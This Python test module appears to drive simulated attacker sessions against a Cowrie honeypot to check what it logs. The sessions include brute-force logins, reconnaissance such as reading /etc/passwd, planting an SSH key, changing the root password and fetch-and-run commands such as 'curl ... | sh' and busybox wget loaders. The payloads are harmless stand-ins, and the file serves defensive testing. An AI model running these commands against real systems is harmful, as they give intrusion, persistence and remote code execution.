"""What attackers do: guess and scan, run commands, leave files; all of it harmless.

Each coroutine function is one behaviour: one connection to the honeypot.
"""

from __future__ import annotations

import asyncio
import contextlib
from typing import Final

import asyncssh

from tests.e2e.attacker_clients import new_environ, ssh, telnet, window_size
from tests.e2e.hostile_behaviours import HOSTILE
from tests.e2e.scene import (
    DEAD_IP,
    DOWNLOAD,
    DOWNLOAD_FAILED,
    EMPTY,
    FAKE_ELF,
    MALWARE_NAME,
    NEWLINE,
    SERVED,
    SSH_KEY,
    UNKNOWN_NAME,
    UPLOAD,
    Expected,
    Scene,
    script,
)

USERNAMES: Final = b"root root root admin ubuntu test oracle postgres pi git user".split()
GUESSES: Final = [*b"root 123456 admin123 1qaz2wsx letmein 000000 vizxv xc3511 888888".split(), b""]
RECON: Final = (
    b"uname -s -v -n -r -m",
    b"uname -a",
    b"cat /proc/cpuinfo | grep name | wc -l",
    b"free -m",
    b"w",
    b"crontab -l",
    b"ls -lh $(which ls)",
    b"nproc",
    b"ps aux | head",
    b"cat /etc/passwd",
    b"lspci | grep -i nvidia",
    b"nosuchcommand --help",
)


# Guessing and scanning: what most sessions are.


async def ssh_brute_force(scene: Scene) -> None:
    """A few passwords over SSH, none right."""
    scene.attack.username = scene.dice.choice(USERNAMES)
    guesses = scene.dice.sample(GUESSES, scene.dice.randint(1, 3))
    with contextlib.suppress(asyncssh.PermissionDenied, asyncssh.ConnectionLost):
        async with ssh(
            scene.cowrie.ssh_port,
            scene.attack.source,
            scene.software,
            username=scene.attack.username,
            passwords=guesses,
        ):
            pass


async def telnet_brute_force(scene: Scene) -> None:
    """A few passwords over telnet, none right."""
    async with telnet(scene.cowrie.telnet_port, scene.attack.source) as client:
        for guess in scene.dice.sample(GUESSES, scene.dice.randint(1, 3)):
            await client.type(scene.dice.choice(USERNAMES))
            await client.type(guess)
        await client.finish()


async def ssh_banner_grab(scene: Scene) -> None:
    """A survey that says its version and leaves."""
    async with telnet(scene.cowrie.ssh_port, scene.attack.source, 22) as client:
        client.send_raw(b"SSH-2.0-ZGrab ZGrab SSH Survey\r\n")
        await client.reader.read(512)


async def ssh_wrong_protocol(scene: Scene) -> None:
    """A web crawler at the SSH port."""
    async with telnet(scene.cowrie.ssh_port, scene.attack.source, 22) as client:
        client.send_raw(b"GET / HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\n")
        await client.reader.read(512)


async def ssh_hostile_version(scene: Scene) -> None:
    """A client version with bytes that are not text."""
    async with telnet(scene.cowrie.ssh_port, scene.attack.source, 22) as client:
        client.send_raw(b"SSH-2.0-" + HOSTILE["esc"] + HOSTILE["invalid"] + b"\r\n")
        await client.reader.read(512)


async def telnet_port_scan(scene: Scene) -> None:
    """A connection that says nothing."""
    async with telnet(scene.cowrie.telnet_port, scene.attack.source) as client:
        await client.finish()


async def ssh_public_key(scene: Scene) -> None:
    """A public key first, then a password that is right."""
    key = asyncssh.generate_private_key("ssh-ed25519")
    async with ssh(scene.cowrie.ssh_port, scene.attack.source, scene.software, passwords=[b"admin"], client_keys=[key]):
        pass


async def ssh_login_only(scene: Scene) -> None:
    """A password that is right, and nothing more: the list is for sale later."""
    async with scene.log_in():
        pass


async def telnet_login_exploit(scene: Scene) -> None:
    """A telnet environment that tries to log in as `-f root`, and a window size."""
    async with telnet(scene.cowrie.telnet_port, scene.attack.source) as client:
        client.send_raw(window_size(120, 40) + new_environ(b"USER", b"-f root"))
        await client.type(b"root")
        await client.type(b"nothing")
        await client.finish()


# Commands.


async def ssh_recon_exec(scene: Scene) -> None:
    """A look around, one command a channel."""
    async with scene.log_in() as connection:
        for command in scene.dice.sample(RECON, 2):
            await scene.run(connection, command)


async def ssh_recon_shell(scene: Scene) -> None:
    """A look around by hand."""
    await scene.shell(*scene.dice.sample(RECON, 3))


async def telnet_recon(scene: Scene) -> None:
    """What a Mirai descendant types first."""
    await scene.telnet_shell(b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI")


async def ssh_change_password(scene: Scene) -> None:
    """The password is changed, so that nobody else gets in."""
    await scene.exec(b'echo "root:n0tY0urs"|chpasswd|bash')


async def ssh_environment(scene: Scene) -> None:
    """Environment variables on an exec channel."""
    async with scene.log_in() as connection:
        await scene.run(connection, b"env", env={b"LC_ALL": b"C", b"HISTFILE": b"/dev/null"})


async def ssh_forward(scene: Scene) -> None:
    """The honeypot as a proxy: a request to be forwarded, with data."""
    async with scene.log_in() as connection:
        for host, port in ((UNKNOWN_NAME, 80), ("2001:db8::25", 25)):
            with contextlib.suppress(asyncssh.ChannelOpenError, asyncio.TimeoutError):
                _, writer = await connection.open_connection(host, port)
                writer.write(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
                await asyncio.sleep(0.2)
                writer.close()


async def ssh_long_command(scene: Scene) -> None:
    """A command far longer than others."""
    await scene.exec(b"echo " + b"A" * scene.long_command_bytes)


# Files.


async def ssh_plant_key(scene: Scene) -> None:
    """The same key into authorized_keys everywhere: the commonest file there is."""
    scene.attack.expect(DOWNLOAD, SSH_KEY + b"\n")
    await scene.exec(
        b'cd ~ && rm -rf .ssh && mkdir .ssh && echo "%s">>.ssh/authorized_keys && chmod -R go= ~/.ssh' % SSH_KEY
    )


async def ssh_redirects(scene: Scene) -> None:
    """Files written by redirects in a shell: once, twice the same, appended, a lone newline."""
    scene.attack.expect(DOWNLOAD, b"harmless sample 2\n")
    scene.attack.expect(DOWNLOAD, b"one\ntwo\n")
    scene.attack.expect(DOWNLOAD, NEWLINE)
    await scene.shell(
        b"echo harmless sample 2 > /tmp/a",
        b"echo harmless sample 2 > /tmp/b",
        b"echo one > /tmp/c",
        b"echo two >> /tmp/c",
        b"echo > /tmp/newline",
        b"> /tmp/empty",
    )


async def telnet_echo_loader(scene: Scene) -> None:
    """A program written piece by piece with echo, as loaders without wget do."""
    scene.attack.expect(DOWNLOAD, FAKE_ELF[:8] + b"harmless")
    await scene.telnet_shell(
        b"cd /tmp || cd /var/run",
        b'echo -ne "' + _escaped(FAKE_ELF[:8]) + b'" > upnp',
        b"echo -ne harmless >> upnp",
    )


async def telnet_busybox_loader(scene: Scene) -> None:
    """The same by `busybox echo`: Cowrie 3.1.4 keeps the file, under a temporary name, and logs nothing."""
    await scene.telnet_shell(
        b"cd /tmp || cd /var/run",
        b'/bin/busybox echo -ne "' + _escaped(FAKE_ELF[:8]) + b'" > upnp; /bin/busybox ECCHI',
        b"/bin/busybox echo -ne harmless >> upnp; /bin/busybox ECCHI",
        b"/bin/busybox chmod 777 upnp",
    )


def _escaped(data: bytes) -> bytes:
    """Return `data` as echo -e wants it."""
    return b"".join(b"\\x%02x" % byte for byte in data)


async def ssh_stdin_upload(scene: Scene) -> None:
    """A file through the standard input of `cat`."""
    scene.attack.expect(DOWNLOAD, script(3))
    await scene.exec(b"cat > /tmp/.x; chmod +x /tmp/.x; /tmp/.x", script(3))


async def ssh_sftp_upload(scene: Scene) -> None:
    """Two files by SFTP, one of them empty."""
    async with scene.log_in() as connection, connection.start_sftp_client() as sftp:
        for name, content in (("redtail.arm7", FAKE_ELF + b"redtail"), ("empty.bin", EMPTY)):
            scene.attack.expect(UPLOAD, content)
            async with sftp.open(f"/tmp/{name}", "wb") as file:
                await file.write(content)


async def ssh_scp_upload(scene: Scene) -> None:
    """A file by SCP, framed by hand as old scp does."""
    scene.attack.expect(UPLOAD, script(4))
    frame = b"C0755 %d sshd\n" % len(script(4)) + script(4) + b"\x00"
    await scene.exec(b"scp -t /tmp", frame)


async def ssh_wget(scene: Scene) -> None:
    """A download that works, from a name, and one that the server moved."""
    scene.attack.expect(DOWNLOAD, SERVED["bins.sh"])
    scene.attack.expect(DOWNLOAD, SERVED["bins.sh"])
    first, moved = scene.url("bins.sh", MALWARE_NAME), scene.url("moved")
    await scene.exec(f"cd /tmp; wget {first} -O bins.sh; wget -q {moved}; sh bins.sh; rm -rf bins.sh".encode())


async def ssh_curl(scene: Scene) -> None:
    """A download with curl, kept and piped into a shell."""
    scene.attack.expect(DOWNLOAD, SERVED["x/redtail.tgz"])
    scene.attack.expect(DOWNLOAD, SERVED["bins.sh"])
    kept, piped = scene.url("x/redtail.tgz"), scene.url("bins.sh")
    await scene.shell(f"curl -s {kept} -o /tmp/redtail.tgz".encode(), f"curl {piped} | sh".encode())


async def telnet_wget(scene: Scene) -> None:
    """A loader that fetches one program for each machine."""
    for path in ("mirai.arm", "mirai.mips"):
        scene.attack.expect(DOWNLOAD, SERVED[path])
    await scene.telnet_shell(
        *(
            f"/bin/busybox wget {scene.url(path)}; chmod 777 {path}; ./{path}".encode()
            for path in ("mirai.arm", "mirai.mips")
        )
    )


async def ssh_wget_empty(scene: Scene) -> None:
    """A download of nothing: Cowrie logs it with an empty hash."""
    scene.attack.expected.append(Expected(DOWNLOAD, ""))
    await scene.exec(f"wget {scene.url('empty')}".encode())


async def ssh_ftpget(scene: Scene) -> None:
    """A download by FTP, with a user and a password in its URL."""
    scene.attack.expect(DOWNLOAD, SERVED["mirai.arm"])
    options = f"-v -u anon -p secret -P {scene.host.ftp_port}"
    await scene.exec(f"cd /tmp; ftpget {options} {MALWARE_NAME} ftp.arm mirai.arm".encode())


async def ssh_tftp(scene: Scene) -> None:
    """A download by TFTP."""
    scene.attack.expect(DOWNLOAD, SERVED["mirai.mips"])
    await scene.exec(f"cd /tmp; tftp -g -r mirai.mips {MALWARE_NAME}:{scene.host.tftp_port}".encode())


async def ssh_failed_downloads(scene: Scene) -> None:
    """Downloads from a host that is down, a file that is gone, a name that is unknown."""
    scene.attack.expected.append(Expected(DOWNLOAD_FAILED))
    scene.attack.expected.append(Expected(DOWNLOAD_FAILED))
    await scene.exec(
        f"wget http://{DEAD_IP}:1/a.sh || curl -O http://{DEAD_IP}:1/a.sh; "
        f"wget {scene.url('gone.sh')}; wget http://{UNKNOWN_NAME}/b.sh".encode()
    )
